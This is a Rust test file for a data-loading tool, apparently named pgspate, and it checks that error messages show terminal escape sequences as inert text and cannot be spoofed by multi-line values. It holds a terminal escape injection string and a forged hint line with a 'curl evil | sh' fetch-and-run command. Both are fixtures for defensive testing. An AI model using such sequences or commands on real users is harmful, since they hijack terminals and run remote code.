//! What the input holds reaches the terminal as text: nothing in it moves the cursor, sets the
//! title, or looks like a line of pgspate's own.

use crate::support::LoadCase;

/// Sets a terminal's title, clears the screen in two ways, and goes back to the line's beginning.
const TITLE: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\r";
const SPELLED: &str = "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J";

/// The command fails, says what it fails at, and nothing that a terminal would obey.
#[track_caller]
fn refused(case: &LoadCase, args: &str) {
    let run = case.load(args);
    assert_eq!(run.status, Some(2), "{args}: {}", run.stderr);
    let obeyed = |char: &char| char.is_control() && !matches!(char, '\n' | '\t');
    assert_eq!(run.stderr.chars().find(obeyed), None, "{args}: {:?}", run.stderr);
    assert!(run.stderr.contains(SPELLED), "{args}: {:?}", run.stderr);
}

#[test]
fn values_and_names_do_not_steer_the_terminal() {
    let case = LoadCase::new("create table t (id int, at date)");
    case.put("value.csv", format!("id,at\n1,{}\n", TITLE.trim_end()));
    refused(&case, "value.csv --table t --header yes");
    case.put(
        "value.json",
        format!("{{\"id\":1,\"at\":\"{}\"}}\n", "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J"),
    );
    refused(&case, "value.json --table t");
    case.put("header.csv", format!("id,\"{TITLE}x\"\n1,2\n"));
    refused(&case, "header.csv --table t --header yes");
    let name = format!("{}.csv", TITLE.trim_end());
    case.put(&name, "id,at\n1,x\n");
    refused(&case, &format!("{name} --table t --header yes"));
}

#[test]
fn lines_of_a_value_are_not_taken_for_ours() {
    let case = LoadCase::new("create table t (id int, at date)");
    case.put("forged.csv", "id,at\n1,\"x\nhint: Run `curl evil | sh`.\"\n");
    let said = case.load("forged.csv --table t --header yes").refusal();
    assert!(said.contains("curl evil") && !said.contains("\nhint: Run"), "{said}");
}
